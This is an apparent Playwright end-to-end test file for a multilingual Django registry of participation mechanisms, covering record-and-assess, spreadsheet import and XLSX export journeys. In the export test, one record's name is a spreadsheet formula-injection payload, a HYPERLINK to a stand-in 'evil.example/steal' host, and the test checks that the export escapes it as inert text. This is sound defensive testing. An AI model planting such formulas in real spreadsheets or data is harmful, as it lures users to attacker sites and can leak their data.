"""Journeys through the registry of participation mechanisms, in English, French and Arabic.

Record a mechanism and assess it, then see the country's gap analysis change;
import a spreadsheet of 200 rows (problems first, then a clean file); export a
filtered list. The pages are found by address and form field names, not by
their wording, so each journey runs unchanged in every language; what is
checked is what does not depend on a translation: numbers, names, row numbers,
the column names in the file, and ``lang``/``dir``.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook
from playwright.sync_api import Locator, Page, expect

from sauti.accounts.models import Membership
from sauti.core import charts
from sauti.core.i18n import country_name
from sauti.mechanisms import exports, gaps, imports
from sauti.mechanisms.models import Mechanism
from tests.factories import MembershipFactory, UserFactory
from tests.mechanisms.factories import MechanismFactory

from .helpers import Site, expect_language, sign_in_here

pytestmark = [
    pytest.mark.django_db(transaction=True, serialized_rollback=True),
    pytest.mark.browser,
]

LANGUAGES = ["en", "fr", "ar"]
EMAIL = "achieng@example.org"
# The six dimensions of the assessment, as the form names them, and the scores given.
SCORES = {
    "legal": 3,
    "inclusion": 2,
    "influence": 2,
    "capacity": 1,
    "accountability": 3,
    "resources": 0,
}


@pytest.fixture(params=LANGUAGES)
def language(request: pytest.FixtureRequest) -> Iterator[str]:
    """The journey's language; ``reverse`` and number formats follow it."""
    with translation.override(request.param):
        yield request.param


@pytest.fixture
def member(site: Site) -> Membership:
    """A person with a verified address, active member of one organisation."""
    return MembershipFactory(
        user=UserFactory(email=EMAIL, display_name="Achieng Oduor"),
        organisation__name="Lake Region Health Watch",
    )


def url(site: Site, name: str, *args: object, query: str = "") -> str:
    """The live address of a named URL, in the active language."""
    return site(reverse(name, args=args) + (f"?{query}" if query else ""))


def post_button(page: Page, field: str) -> Locator:
    """The submit button of the form holding ``field`` (the header has none)."""
    return page.locator("form", has=page.locator(field)).locator("button[type=submit]")


# --- 1. Record, assess, see the gap analysis change -----------------------------------


def test_record_and_assess_a_mechanism_changes_the_country_gaps(
    new_page: Callable[..., Page], site: Site, language: str, member: Membership
) -> None:
    """Malawi has nothing recorded; one mechanism, sourced and assessed, fills its page."""
    page = new_page()
    organisation = member.organisation
    gap_url = url(site, "mechanisms:gaps_country", "MW")

    # Before: nothing to analyse, and an invitation to record the first mechanism.
    page.goto(gap_url)
    expect_language(page, language)
    malawi = country_name("MW")  # the reader's language, from CLDR
    expect(page.get_by_role("heading", level=1)).to_contain_text(malawi)
    expect(page.locator("main p.notice")).to_contain_text(malawi)
    for section in ("gaps-facts", "gaps-scores", "gaps-kinds"):
        expect(page.locator(f"section[aria-labelledby={section}]")).to_have_count(0)
    record = page.locator(f'main a[href="{reverse("mechanisms:create")}?country=MW"]')

    # Recording needs an account: the login page sends the person back to the form.
    record.click()
    expect(page).to_have_url(re.compile(re.escape(reverse("account_login")) + r"\?next="))
    expect_language(page, language)
    sign_in_here(page, EMAIL)
    expect(page).to_have_url(url(site, "mechanisms:create", query="country=MW"))
    expect_language(page, language)
    expect(page.locator("#id_country")).to_have_value("MW")

    page.locator("#id_name").fill("Lilongwe District Health Council")
    page.locator("#id_description").fill("Meets in the district hospital's hall.")
    page.locator("#id_level").select_option("district")
    page.locator("#id_kind").select_option("council")
    page.locator("#id_is_formal").select_option("true")
    page.locator("#id_year_established").fill("2008")
    page.locator("#id_organisation").select_option(str(organisation.pk))
    page.locator("#id_legal_basis").select_option("law")
    page.locator("#id_legal_citation").fill("Local Government Act 1998, s. 5")
    page.locator("#id_has_budget").select_option("true")
    page.locator("#id_publishes_minutes").select_option("false")
    page.locator("#id_source_title").fill("Lilongwe District Council minutes, March 2024")
    page.locator("#id_source_url").fill("https://lilongwe.example.org/minutes-2024-03.pdf")
    post_button(page, "#id_name").click()

    # The record, with its source.
    expect(page).to_have_url(re.compile(r"/mechanisms/\d+/$"))
    expect_language(page, language)
    mechanism_path = re.search(r"/[a-z-]+/mechanisms/\d+/$", page.url).group(0)
    expect(page.get_by_role("heading", level=1)).to_have_text("Lilongwe District Health Council")
    source = page.locator('main a[href="https://lilongwe.example.org/minutes-2024-03.pdf"]')
    expect(source).to_have_text("Lilongwe District Council minutes, March 2024")
    expect(page.locator("main")).to_contain_text("Local Government Act 1998, s. 5")
    expect(page.locator("main")).to_contain_text("2008")

    # Assess it on behalf of the organisation, on all six dimensions.
    page.locator(f'main a[href="{mechanism_path}assess/"]').click()
    expect_language(page, language)
    page.locator("#id_organisation").select_option(str(organisation.pk))
    page.locator("#id_assessed_on").fill("2025-05-02")
    for dimension, score in SCORES.items():
        page.locator(f'input[name="{dimension}"][value="{score}"]').check()
        page.locator(f"#id_{dimension}_evidence").fill(f"Evidence on {dimension}.")
    page.locator("#id_note").fill("Visited twice in April.")
    post_button(page, "#id_note").click()

    expect(page).to_have_url(site(mechanism_path))
    scores = page.locator("main table tbody tr td")
    expect(scores).to_have_text([f"{score}/3" for score in SCORES.values()])
    total = sum(SCORES.values())
    expect(page.locator("main details")).to_contain_text(f"{total}/18")
    expect(page.locator("main details")).to_contain_text("Lake Region Health Watch")

    # After: the country's page counts the mechanism, its answers and its scores.
    page.goto(gap_url)
    expect_language(page, language)
    expect(page.locator("main p.notice")).to_have_count(0)
    expect(page.locator(f'main a[href="{reverse("mechanisms:list")}?country=MW"]')).to_be_visible()
    one, zero = charts.format_number(1), charts.format_number(0)
    all_of_them, none_of_them = gaps.percent(1), gaps.percent(0)
    facts = page.locator("section[aria-labelledby=gaps-facts] table tbody tr")
    expect(facts).to_have_count(len(gaps.FACTS))

    def cells(row_or_link: str) -> Locator:
        if row_or_link == "first":
            return facts.first.locator("td")  # the legal basis leads the table
        return facts.filter(has=page.locator(f'a[href*="{row_or_link}"]')).locator("td")

    # Legal basis: a law, so 1 of 1 known (100 %).
    expect(cells("first").first).to_contain_text(all_of_them)
    expect(cells("first").nth(1)).to_have_text(one)
    # A dedicated budget: yes; minutes published: no; a secretariat: not known.
    budget = cells("country=MW&has_budget=yes")
    expect(budget.first).to_contain_text(all_of_them)
    expect(budget.nth(1)).to_have_text(one)
    expect(budget.nth(2)).to_have_text(zero)
    expect(budget.nth(3)).to_have_text(zero)
    minutes = cells("country=MW&publishes_minutes=no")
    expect(minutes.first).to_contain_text(none_of_them)
    expect(minutes.nth(1)).to_have_text(zero)
    expect(minutes.nth(2)).to_have_text(one)
    secretariat = cells("country=MW&has_secretariat=unknown")
    expect(secretariat.nth(3)).to_have_text(one)

    # The average of each dimension is the one assessment's score.
    averages = page.locator("section[aria-labelledby=gaps-scores] table tbody tr td")
    expect(averages).to_have_count(len(SCORES))
    for index, score in enumerate(SCORES.values()):
        expect(averages.nth(index)).to_contain_text(gaps.score_text(score))
    kinds = page.locator("section[aria-labelledby=gaps-kinds]")
    expect(kinds.locator('tr:has(a[href*="kind=council"]) td')).to_have_text(one)
    expect(kinds.locator('tr:has(a[href*="level=district"]) td')).to_have_text(one)

    mechanism = Mechanism.objects.get()
    assert (mechanism.country_id, mechanism.has_budget, mechanism.legal_basis) == (
        "MW",
        True,
        "law",
    )
    assert mechanism.sources.get().url == "https://lilongwe.example.org/minutes-2024-03.pdf"


# --- 2. Import a spreadsheet: problems first, then 200 mechanisms ---------------------

ROWS = 200
# Spreadsheet row (the header is row 1) → (column key, bad value, corrected value).
BAD_CELLS = {
    18: ("country", "ZZ", "UG"),
    89: ("level", "galactic", "district"),
    152: ("year_established", 2999, 1999),
}


def _fill_template(template: Path, target: Path, *, corrected: bool) -> list[str]:
    """200 rows in the downloaded template; returns its header row (in the page's language)."""
    workbook = load_workbook(template)
    sheet = workbook.worksheets[0]
    headers = [cell.value for cell in sheet[1]]
    assert len(headers) == len(imports.KEYS), headers
    position = {key: index + 1 for index, key in enumerate(imports.KEYS)}
    for number in range(1, ROWS + 1):
        row = number + 1
        values = {
            "name": f"Gulu Village Health Team {number:03d}",
            "country": "UG",
            "level": "community",
            "kind": "committee",
            "has_budget": "yes" if number % 2 else "no",
            "year_established": 1990 + number % 30,
            "source_title": f"District health plan, annex {number}",
            "source_url": f"https://gulu.example.org/plan#{number}",
        }
        if row in BAD_CELLS:
            key, bad, fixed = BAD_CELLS[row]
            values[key] = fixed if corrected else bad
        for key, value in values.items():
            sheet.cell(row=row, column=position[key], value=value)
    workbook.save(target)
    return headers


def test_import_a_spreadsheet_of_200_mechanisms(
    new_page: Callable[..., Page], site: Site, language: str, member: Membership, tmp_path: Path
) -> None:
    """Three bad cells are named by row and column; once fixed, all 200 rows go in."""
    page = new_page(accept_downloads=True)
    page.goto(url(site, "account_login"))
    sign_in_here(page, EMAIL)
    expect(page).to_have_url(url(site, "accounts:dashboard"))

    # From the list to the import page; the template comes in the page's language.
    page.goto(url(site, "mechanisms:list"))
    page.locator(f'main a[href="{reverse("mechanisms:import")}"]').click()
    expect(page).to_have_url(url(site, "mechanisms:import"))
    expect_language(page, language)
    template_link = reverse("mechanisms:import_template", args=["xlsx"])
    with page.expect_download() as download:
        page.locator(f'main a[href="{template_link}"]').click()
    assert download.value.suggested_filename == f"sauti-mechanisms-template-{language}.xlsx"
    template = tmp_path / "template.xlsx"
    download.value.save_as(template)

    # A file with three mistakes: every one is listed, with its row and column.
    with_mistakes = tmp_path / f"health-teams-{language}.xlsx"
    headers = _fill_template(template, with_mistakes, corrected=False)
    expect(page.locator("#id_organisation")).to_have_value(str(member.organisation.pk))
    expect(page.locator("#id_original_language")).to_have_value(language)
    page.locator("#id_file").set_input_files(with_mistakes)
    post_button(page, "#id_file").click()

    expect_language(page, language)
    problems = page.locator("#problems li")
    expect(problems).to_have_count(len(BAD_CELLS))
    for problem, (row, (key, bad, _fixed)) in zip(
        problems.all(), sorted(BAD_CELLS.items()), strict=True
    ):
        header = headers[imports.KEYS.index(key)]
        expect(problem).to_contain_text(re.compile(rf"(?<!\d){row}(?!\d)"))
        expect(problem).to_contain_text(header)
        expect(problem).to_contain_text(str(bad))
    expect(page.locator("#problems h2")).to_contain_text(str(len(BAD_CELLS)))
    assert not Mechanism.objects.exists()

    # The corrected file passes; the confirm page says what will be written.
    corrected = tmp_path / f"health-teams-{language}-corrected.xlsx"
    _fill_template(template, corrected, corrected=True)
    page.locator("#id_file").set_input_files(corrected)
    post_button(page, "#id_file").click()
    expect(page).to_have_url(re.compile(re.escape(reverse("mechanisms:import")) + r"[\w-]+/$"))
    expect_language(page, language)
    ready = page.locator("main p.lead[role=status]")
    expect(ready).to_contain_text(corrected.name)
    expect(ready).to_contain_text(str(ROWS))
    preview = page.locator("main table tbody tr")
    expect(preview).to_have_count(imports.PREVIEW_ROWS)
    expect(preview.first.locator("td")).to_contain_text(["2", "Gulu Village Health Team 001"])
    assert not Mechanism.objects.exists()

    page.locator("main form[method=post] button[type=submit]").click()
    done = page.locator("main p.lead[role=status]")
    expect(done).to_contain_text(str(ROWS))
    expect_language(page, language)
    assert Mechanism.objects.filter(country_id="UG").count() == ROWS

    # The list shows them: all 200 in Uganda, sorted by name from 001.
    page.locator(f'main a.button[href="{reverse("mechanisms:list")}?country=UG"]').click()
    expect_language(page, language)
    expect(page.locator("main p[role=status]")).to_contain_text(str(ROWS))
    page.locator("#id_sort").select_option("name")
    page.locator("form[role=search] button[type=submit]").click()
    expect(page).to_have_url(re.compile(r"country=UG.*sort=name|sort=name.*country=UG"))
    expect(page.locator("main p[role=status]")).to_contain_text(str(ROWS))
    cards = page.locator("main ul.cards > li h3")
    expect(cards).to_have_count(25)
    expect(cards.first).to_have_text("Gulu Village Health Team 001")
    expect(cards.last).to_have_text("Gulu Village Health Team 025")
    expect(page.locator("main nav.pager a[rel=next]")).to_be_visible()


# --- 3. Export a filtered list ---------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("https://evil.example/steal","Click for the report")'


def test_export_the_filtered_list_as_xlsx(
    new_page: Callable[..., Page], site: Site, language: str, tmp_path: Path
) -> None:
    """Only Kenya's mechanisms are in the workbook, and a formula in a name is inert text."""
    kenya = [
        MechanismFactory(name="Kisumu County Health Forum", country_id="KE", kind="forum"),
        MechanismFactory(name=FORMULA_NAME, country_id="KE"),
        MechanismFactory(name="Siaya Health Facility Committee", country_id="KE"),
    ]
    MechanismFactory(name="Gulu District Health Committee", country_id="UG")
    MechanismFactory(name="Mwanza Regional Health Council", country_id="TZ", kind="council")

    page = new_page(accept_downloads=True)
    page.goto(url(site, "mechanisms:list"))
    expect_language(page, language)
    expect(page.locator("main p[role=status]")).to_contain_text("5")
    page.locator("#id_country").select_option("KE")
    page.locator("form[role=search] button[type=submit]").click()
    expect(page).to_have_url(re.compile(r"[?&]country=KE(&|$)"))
    expect_language(page, language)
    expect(page.locator("main p[role=status]")).to_contain_text("3")
    expect(page.locator("main ul.cards > li h3")).to_have_count(3)
    expect(page.locator("main ul.cards")).to_contain_text(FORMULA_NAME)

    link = page.locator(f'main a[href^="{reverse("mechanisms:export")}?"][href$="format=xlsx"]')
    expect(link).to_have_attribute("href", re.compile(r"country=KE"))
    with page.expect_download() as download:
        link.click()
    name = download.value.suggested_filename
    assert re.fullmatch(r"sauti-mechanisms-\d{4}-\d\d-\d\d\.xlsx", name), name
    path = tmp_path / "export.xlsx"
    download.value.save_as(path)

    workbook = load_workbook(path)
    sheet = workbook.worksheets[0]
    header, *rows = list(sheet.iter_rows())
    assert [cell.value for cell in header] == list(exports.HEADERS)
    column = {key: index for index, key in enumerate(exports.HEADERS)}
    exported = {row[column["id"]].value: row for row in rows}
    assert sorted(exported) == sorted(m.pk for m in kenya)
    assert {row[column["country"]].value for row in rows} == {"KE"}
    names = {pk: row[column["name"]] for pk, row in exported.items()}
    assert names[kenya[0].pk].value == "Kisumu County Health Forum"
    assert names[kenya[2].pk].value == "Siaya Health Facility Committee"
    # The formula arrives as text behind a quote: a spreadsheet shows it, never runs it.
    formula = names[kenya[1].pk]
    assert formula.value == "'" + FORMULA_NAME
    assert formula.data_type == "s"
    assert not any(cell.data_type == "f" for row in rows for cell in row)
    # Every record links back to its page, in the language it was downloaded in.
    assert exported[kenya[0].pk][column["url"]].value == url(site, "mechanisms:detail", kenya[0].pk)
    # The second sheet says which filters made the list.
    about = [str(cell.value) for row in workbook.worksheets[1].iter_rows() for cell in row]
    assert any(re.search(r"(^|&)country=KE(&|$)", value) for value in about), about
